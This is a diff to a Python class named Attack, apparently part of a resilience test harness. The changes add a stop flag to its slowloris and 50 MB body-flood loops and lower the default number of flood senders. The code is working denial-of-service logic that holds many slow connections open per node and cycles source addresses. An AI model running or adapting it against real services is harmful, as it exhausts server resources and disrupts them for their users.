@@ -79,10 +79,12 @@ class Attack:
         self.held = 0
         self.bodies_sent = 0
         self.body_answers = {}
+        # Checked by every loop: a cancellation alone can be swallowed by wait_for (Python 3.11).
+        self.stopping = False
 
     async def slow(self, addr, i):
         src = self.sources[i % len(self.sources)]
-        while True:
+        while not self.stopping:
             try:
                 r, w = await asyncio.open_connection(*addr, local_addr=(src, 0))
             except OSError:
@@ -94,7 +96,7 @@ class Attack:
                 w.write(b"POST / HTTP/1.1\r\nHost: x\r\n")
                 await w.drain()
                 n = 0
-                while True:
+                while not self.stopping:
                     # Trickle a header line, then check whether the node closed us.
                     try:
                         data = await asyncio.wait_for(r.read(4096), self.trickle_s)
@@ -115,13 +117,13 @@ class Attack:
     async def body(self, addr, i):
         src = self.sources[(i + 3) % len(self.sources)]
         piece = b"x" * (256 * 1024)
-        while True:
+        while not self.stopping:
             try:
                 r, w = await asyncio.open_connection(*addr, local_addr=(src, 0))
                 w.write(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                         b"Content-Length: %d\r\n\r\n" % BODY_BYTES)
                 sent = 0
-                while sent < BODY_BYTES:
+                while sent < BODY_BYTES and not self.stopping:
                     w.write(piece)
                     await w.drain()
                     sent += len(piece)
@@ -146,6 +148,7 @@ class Attack:
                 tasks.append(asyncio.create_task(self.body(addr, i)))
         while not stop_event.is_set():
             await asyncio.sleep(0.2)
+        self.stopping = True
         for t in tasks:
             t.cancel()
         await asyncio.gather(*tasks, return_exceptions=True)
@@ -165,7 +168,7 @@ def main():
     ap.add_argument("--attack", action="store_true")
     ap.add_argument("--seconds", type=float, default=25)
     ap.add_argument("--slowloris", type=int, default=1000, help="per node")
-    ap.add_argument("--bodies", type=int, default=2, help="50 MB senders per node")
+    ap.add_argument("--bodies", type=int, default=1, help="50 MB senders per node")
     ap.add_argument("--trickle", type=float, default=2.0)
     ap.add_argument("--timeout", type=float, default=5.0, help="a probe call's timeout")
     a = ap.parse_args()
